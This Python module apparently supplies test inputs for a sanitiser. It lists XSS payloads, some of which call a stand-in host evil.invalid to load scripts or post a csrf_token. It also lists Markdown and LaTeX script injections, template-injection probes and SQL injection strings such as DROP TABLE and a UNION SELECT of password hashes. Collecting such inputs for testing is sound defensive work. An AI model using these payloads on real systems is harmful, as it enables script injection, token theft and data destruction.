"""Texts with which pages, templates and databases are attacked; each carries the word `evil`."""

from __future__ import annotations

MARKUP = (
    "<script>evil()</script>",
    "<img src=evil onerror=evil()>",
    "<svg/onload=evil()>",
    '"><script src=//evil.invalid/x></script>',
    "' onmouseover='evil()' evil='",
    "</textarea><script>evil()</script>",
    "</title><script>evil()</script>",
    "<iframe srcdoc='<script>evil()</script>'></iframe>",
    "<form action=//evil.invalid><input name=csrf_token></form>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<style>@import '//evil.invalid'</style>",
    "<a href='javascript:evil()'>evil</a>",
    "<math><mtext><table><mglyph><style><img src=evil onerror=evil()>",
    "<noscript><p title='</noscript><img src=evil onerror=evil()>'>",
    "<template><script>evil()</script></template>",
    "<input autofocus onfocus=evil() name=evil id=csrf_token>",
    "<!--><script>evil()</script>-->",
    "<![CDATA[><script>evil()</script>]]>",
    "<details open ontoggle=evil()>",
    "&lt;script&gt;evil()&lt;/script&gt;",
    "\\x3cscript\\x3eevil()",
    "{{ '<script>evil()</script>'|safe }}",
)
"""HTML that does something where it is not escaped."""

MARKDOWN = (
    "[evil](javascript:evil())",
    "[evil](JaVaScRiPt:evil())",
    "[evil](data:text/html;base64,ZXZpbA==)",
    "[evil](vbscript:evil())",
    "[evil](//evil.invalid/evil)",
    "[evil](https://evil.invalid \"' onclick='evil()\")",
    "![evil](https://evil.invalid/x.png)",
    "<javascript:evil()>",
    "[evil]: javascript:evil()",
    "`<script>evil()</script>`",
    "[evil][evil](java&#115;cript:evil())",
    '!["><script>evil()</script>](evil.png "\' onerror=\'evil()")',
    r"$\href{javascript:evil()}{evil}$",
    r"$\text{<script>evil()</script>}$",
    r"$\operatorname{</math><img src=evil onerror=evil()>}$",
    r"$\verb|<iframe src=javascript:evil()>|$",
    r"$\style{background:url(//evil.invalid)}{evil}$",
    r"$\text{&#x3c;script&#x3e;evil()&#x3c;/script&#x3e;}$",
    '$evil"onmouseover="evil()$',
    r"$$\evil<img src=evil onerror=evil()>$$",
)
"""Markdown that becomes such HTML where it is not cleaned."""

TEMPLATES = ("{{71*73}}", "{%print 71*73%}", "${71*73}", "<%=71*73%>", "#{71*73}", "%(71*73)s")
COMPUTED = "5183"
"""What any of the templates would become if it were run."""

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE person; --",
    '" OR ""="',
    "1) UNION SELECT password_hash FROM person --",
    "\\' OR 1=1 --",
)
